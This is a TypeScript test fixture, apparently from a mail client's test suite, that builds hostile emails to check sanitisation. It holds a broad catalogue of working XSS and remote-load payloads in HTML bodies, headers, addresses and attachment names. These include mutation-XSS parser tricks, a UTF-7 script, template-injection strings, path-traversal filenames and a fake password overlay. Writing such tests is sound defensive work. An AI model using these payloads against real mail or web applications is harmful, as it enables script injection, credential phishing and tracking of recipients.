/**
 * Mail as attackers send it: script in every place where a browser runs script, references to everywhere that a browser
 * loads from, in bodies, headers, addresses and file names.
 */
import { mail, multipart, type Sent, single, spamHeaders } from './mails.ts'

/** All of them have it among their recipients. */
export const victim = 'victim@hostile.example'

export interface Traps {
  /** Script that tells that it ran. */
  run: string
  /** URL of a server that must not be reached. */
  remote: string
}

/** HTML bodies. */
const bodies = ({ run, remote }: Traps): string[] => [
  `<script>${run}</script><script src="${remote}/script.js"></script><script type="module">${run}</script>`,
  `<img src=x onerror="${run}"><img src="${remote}/i.gif" onload="${run}"><svg onload="${run}"></svg>`,
  `<body onload="${run}" onpageshow="${run}" background="${remote}/bg.png"><p onmouseover="${run}">text`,
  `<iframe src="javascript:${run}"></iframe><iframe src="${remote}/frame"></iframe><iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe src="data:text/html,<script>${run}</script>"></iframe><object data="data:text/html,<script>${run}</script>"></object>`,
  `<a href="javascript:${run}" autofocus onfocus="${run}">link</a><a href="\u0001java\nscript:${run}">link</a><a href="${remote}/a" ping="${remote}/ping" target="_top">link</a>`,
  `<form action="${remote}/form"><input autofocus onfocus="${run}" name=a><input type=image src="${remote}/input.gif"><button formaction="javascript:${run}">go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${remote}/refresh"><meta http-equiv="Set-Cookie" content="a=b"><base href="${remote}/"><img src="based.png">`,
  `<link rel="stylesheet" href="${remote}/css"><link rel="preload" as="image" href="${remote}/preload"><link rel="prefetch" href="${remote}/prefetch"><link rel="dns-prefetch" href="${remote}"><link rel="preconnect" href="${remote}"><link rel="icon" href="${remote}/icon">`,
  `<style>@import url("${remote}/import.css"); @import "${remote}/import2.css"; body { background: url(${remote}/body.png) } @font-face { font-family: f; src: url(${remote}/font.woff) } p { font-family: f; content: url(${remote}/content) }</style><p>text</p>`,
  `<p style="background:url('${remote}/style')">a</p><p style="width:expression(${run})">b</p><p style="--x:url(${remote}/var);background:var(--x)">c</p><p style="background-image:image-set('${remote}/set' 1x)">d</p><p style="background:\\75\\72\\6c(${remote}/escaped)">e</p><ul style="list-style:url(${remote}/list)"><li>f</ul>`,
  `<p style="position:fixed;inset:0;z-index:99999;background:white;pointer-events:auto">sign in again: <input type=password></p><style>:host, :root, html, body { display: none !important }</style>`,
  `<img srcset="${remote}/1x 1x, ${remote}/2x 2x"><picture><source srcset="${remote}/source"><img src="//${remote.slice(7)}/double"></picture>`,
  `<video src="${remote}/video" poster="${remote}/poster" autoplay onloadstart="${run}"><source src="${remote}/s"><track src="${remote}/track" default></video><audio src="${remote}/audio" autoplay onerror="${run}"></audio>`,
  `<object data="${remote}/object" codebase="${remote}"></object><embed src="${remote}/embed"><applet code="${remote}/applet"></applet><frameset><frame src="${remote}/frameset"></frameset>`,
  `<table background="${remote}/table"><tr background="${remote}/tr"><td background="${remote}/td">x</td></tr></table>`,
  `<svg><use href="${remote}/use#x"></use><image href="${remote}/image"></image><a xlink:href="javascript:${run}"><text>x</text></a><animate attributeName="href" values="javascript:${run}"></animate><script>${run}</script><foreignObject><iframe src="${remote}/fo"></iframe></foreignObject></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript><xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
  `<template><script>${run}</script></template><textarea></textarea><script>${run}</script><title></title><img src=x onerror="${run}">`,
  `<!--[if mso]><script>${run}</script><![endif]--><!--><img src=x onerror="${run}">--><![CDATA[<img src=x onerror="${run}">]]>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'><image href='${remote}/nested'/></svg>"><img src="data:text/html,<script>${run}</script>">`,
  `<details open ontoggle="${run}"><summary>x</summary></details><marquee onstart="${run}">y</marquee><input onfocus="${run}" autofocus><dialog open onclose="${run}">z</dialog>`,
  `<portal src="${remote}/portal"></portal><fencedframe src="${remote}/fenced"></fencedframe><webview src="${remote}/webview"></webview><custom-tag onclick="${run}" is="x">w</custom-tag>`,
]

/** Text that breaks out of wherever it is put unescaped. */
const words = ({ run, remote }: Traps): string[] => [
  `<script>${run}</script>`,
  `"><img src=x onerror="${run}">`,
  `'><svg/onload='${run}'><img src=${remote}/word>`,
  `</title></textarea></style><script>${run}</script>`,
  `javascript:${run}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what template engines would run
  '{{constructor.constructor("top.ran=1")()}} ${top.ran=1} <%= 1 %>',
  '\u202egnp.exe\u202c \u0007\u200b \ufeff zero and reversed',
  `${'W'.repeat(6000)} ${'long '.repeat(300)}`,
  '__proto__ constructor hasOwnProperty toString',
]

const utf8 = (text: string): string => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`
/** An encoded word for each few characters: none is longer than RFC 2047 allows. */
const encodedWords = (text: string): string => (text.match(/[\s\S]{1,15}/gu) ?? []).map(utf8).join('\r\n ')

function* inBodies(traps: Traps): Generator<Sent> {
  for (const [n, body] of bodies(traps).entries())
    yield mail(
      { recipients: [victim], headers: [`Subject: body ${n}`, `From: <${n}@body.example>`, ...spamHeaders] },
      single({ type: 'text/html; charset=utf-8', body }),
    )
}

function* inHeaders(traps: Traps): Generator<Sent> {
  for (const [n, word] of words(traps).entries()) {
    const quoted = word.replace(/["\\]/g, '\\$&').replace(/[^ -~]/g, '')
    yield mail(
      {
        recipients: [victim, `rcpt${n}@hostile.example`],
        headers: [
          `Subject: ${encodedWords(word)}`,
          `From: ${encodedWords(word)} <${n}@header.example>`,
          `To: ${encodedWords(word)} <${victim}>`,
          `Date: ${quoted.slice(0, 500)}`,
          `Message-ID: <${quoted.slice(0, 500)}@header.example>`,
          `Authentication-Results: mx.example.com; ${quoted.slice(0, 500)}`,
          'X-Spam-Flag: YES',
          `X-Spam-Status: Yes, score=9 required=5 tests=${quoted.slice(0, 200).replace(/[ ,]/g, '_')}`,
          `X-Virus-Scanner: ${quoted.slice(0, 500)}`,
        ],
      },
      multipart(
        'mixed',
        [
          { type: 'text/plain; charset=utf-8', body: `${word}\r\n${traps.remote}/text\r\n` },
          {
            type: `application/octet-stream; name="${quoted.slice(0, 300)}"`,
            body: `<script>${traps.run}</script>`,
            headers: [
              `Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(word.slice(0, 300))}.html`,
            ],
          },
          {
            type: `text/${quoted.replace(/[^a-z<>=()]/gi, '').slice(0, 60)}`,
            body: 'x',
            headers: [`Content-Disposition: attachment; filename="../../${quoted.slice(0, 200)}"`],
          },
        ],
        `b${n}`,
      ),
    )
  }
}

function* oddities({ run, remote }: Traps): Generator<Sent> {
  const headers = (subject: string) => [`Subject: ${subject}`, 'From: <a@odd.example>', ...spamHeaders]
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script><image href="${remote}/svg"/></svg>`
  yield mail(
    { recipients: [victim], headers: headers('SVG pictures of its own') },
    multipart(
      'related',
      [
        {
          type: 'text/html',
          body: '<img src="cid:pic"><object data="cid:pic"></object><iframe src="cid:page"></iframe>',
        },
        { type: 'image/svg+xml', body: svg, headers: ['Content-ID: <pic>', 'Content-Disposition: inline'] },
        { type: 'text/html', body: `<script>${run}</script>`, headers: ['Content-ID: <page>'] },
        { type: `image/png" onerror="${run}`, body: svg, headers: ['Content-ID: <x" onerror="run">'] },
      ],
      'rel',
    ),
  )
  yield mail(
    { recipients: [victim], headers: headers('SVG alone') },
    single({ type: 'image/svg+xml', body: svg }),
  )
  yield mail(
    { recipients: [victim], headers: headers('XHTML') },
    single({
      type: 'application/xhtml+xml',
      body: `<html xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></html>`,
    }),
  )
  yield mail(
    { recipients: [victim], headers: headers('UTF-7') },
    single({ type: 'text/html; charset=utf-7', body: `+ADw-script+AD4-${run}+ADw-/script+AD4-` }),
  )
  yield mail(
    { recipients: [victim], headers: headers('UTF-16') },
    single({ type: 'text/html; charset=utf-16le', body: Buffer.from(`<script>${run}</script>`, 'utf16le') }),
  )
  yield mail(
    { recipients: [victim], headers: headers('text that is HTML') },
    single({ type: 'text/plain', body: `<html><script>${run}</script><img src="${remote}/plain"></html>` }),
  )
  yield mail(
    { recipients: [victim], headers: headers('HTML in two ways') },
    multipart(
      'alternative',
      [
        { type: 'text/plain', body: `<script>${run}</script>` },
        { type: 'text/html', body: `<img src=x onerror="${run}">` },
        {
          type: 'text/x-amp-html',
          body: `<!doctype html><html amp4email><script src="${remote}/amp.js"></script>`,
        },
      ],
      'alt',
    ),
  )
  yield {
    ...mail(
      { recipients: [victim], headers: headers('addresses') },
      single({ type: 'text/plain', body: 'The envelope is the attack.' }),
    ),
    sender: `"<img src=x onerror=${run}>"@sender.example`,
    recipients: [victim, `"'><script>${run}</script>"@rcpt.example`],
  }
}

export const hostileMails = (traps: Traps): Sent[] => [
  ...inBodies(traps),
  ...inHeaders(traps),
  ...oddities(traps),
]
